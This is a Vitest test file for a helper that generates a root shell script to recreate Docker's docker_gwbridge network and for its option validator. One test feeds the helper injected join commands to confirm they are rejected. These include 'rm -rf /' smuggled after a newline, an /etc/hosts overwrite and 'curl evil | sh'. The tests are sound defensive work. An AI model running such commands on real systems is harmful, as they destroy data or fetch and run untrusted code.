import { describe, expect, it } from "vitest";
import { gwbridgeScript, validateGwbridgeOptions } from "@/lib/cli/gwbridge";

describe("gwbridgeScript", () => {
  it("renders the script from the notes, with a join placeholder", () => {
    expect(
      gwbridgeScript({ subnet: "10.11.0.0/16", enableIcc: false, enableIpMasquerade: true }),
    ).toBe(`#!/bin/sh
# Recreate docker_gwbridge with custom settings. Run as root on the node, before it
# joins the swarm (or after \`docker swarm leave\`).
set -eu

# 1. Stop Docker so that it lets go of docker_gwbridge.
systemctl stop docker

# 2. Delete the existing docker_gwbridge interface (a kernel device, not a Docker object).
if ip link show docker_gwbridge >/dev/null 2>&1; then
  ip link set docker_gwbridge down
  ip link del dev docker_gwbridge
fi

# 3. Start Docker again. Do not join or initialise the swarm yet.
systemctl start docker

# 4. Create docker_gwbridge by hand with the custom settings.
docker network create \\
  --subnet 10.11.0.0/16 \\
  --opt com.docker.network.bridge.name=docker_gwbridge \\
  --opt com.docker.network.bridge.enable_icc=false \\
  --opt com.docker.network.bridge.enable_ip_masquerade=true \\
  docker_gwbridge

# 5. Join (or initialise) the swarm: the bridge already exists, so Docker keeps it.
# docker swarm join --token <worker-or-manager-token> <manager-address>:2377
`);
  });

  it("adds gateway, MTU and the real join command", () => {
    const script = gwbridgeScript({
      subnet: "172.20.0.0/16",
      gateway: "172.20.0.1",
      enableIcc: true,
      enableIpMasquerade: false,
      mtu: 1450,
      joinCommand: "docker swarm join --token SWMTKN-1-abc-def 192.168.1.36:2377",
    });
    expect(script).toContain(`docker network create \\
  --subnet 172.20.0.0/16 \\
  --gateway 172.20.0.1 \\
  --opt com.docker.network.bridge.name=docker_gwbridge \\
  --opt com.docker.network.bridge.enable_icc=true \\
  --opt com.docker.network.bridge.enable_ip_masquerade=false \\
  --opt com.docker.network.driver.mtu=1450 \\
  docker_gwbridge
`);
    expect(script.endsWith("docker swarm join --token SWMTKN-1-abc-def 192.168.1.36:2377\n")).toBe(
      true,
    );
  });

  it("refuses a join command that is not one docker swarm join line", () => {
    const base = { subnet: "10.11.0.0/16", enableIcc: false, enableIpMasquerade: true };
    expect(() => gwbridgeScript({ ...base, joinCommand: "docker swarm join x\nrm -rf /" })).toThrow(
      "the join command must be one line",
    );
    expect(() =>
      gwbridgeScript({
        ...base,
        joinCommand: "docker swarm join --token SWMTKN-1-abc-def 10.0.0.1:2377 > /etc/hosts",
      }),
    ).toThrow("exactly one manager address");
    expect(() => gwbridgeScript({ ...base, joinCommand: "curl evil | sh" })).toThrow();
  });
});

describe("validateGwbridgeOptions", () => {
  const base = { enableIcc: false, enableIpMasquerade: true };

  it("accepts a valid configuration", () => {
    expect(
      validateGwbridgeOptions({ ...base, subnet: "10.11.0.0/16", gateway: "10.11.0.1", mtu: 1500 }),
    ).toEqual([]);
  });

  it("reports subnet, gateway and MTU problems", () => {
    expect(validateGwbridgeOptions({ ...base, subnet: "10.11.0.1/16" })[0]?.field).toBe("subnet");
    expect(validateGwbridgeOptions({ ...base, subnet: "fd00::/64" })).toEqual([
      { field: "subnet", message: "docker_gwbridge needs an IPv4 subnet", severity: "error" },
    ]);
    expect(
      validateGwbridgeOptions({
        ...base,
        subnet: "10.11.0.0/16",
        gateway: "10.12.0.1",
        mtu: 10,
      }).map((issue) => issue.field),
    ).toEqual(["gateway", "mtu"]);
  });
});
